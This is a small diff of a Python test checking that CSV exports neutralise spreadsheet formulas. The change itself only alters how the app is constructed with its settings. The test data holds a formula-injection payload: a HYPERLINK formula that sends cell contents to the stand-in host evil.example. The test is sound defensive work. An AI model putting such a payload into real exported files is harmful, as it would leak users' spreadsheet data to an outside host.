@@ -184,7 +184,7 @@ def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(secured: Secured
     from app.exports.tasks import write_csv
     from app.models import Todo
 
-    app = create_app({"SETTINGS": Settings.from_env(secured.env), "KEEP_LOGGING": True})
+    app = create_app(settings=Settings.from_env(secured.env))
     formula = f'{prefix}HYPERLINK("http://evil.example/?"&A1, "click")'
     with app.app_context():
         db.session.add(Todo(text=formula, position=10_000))
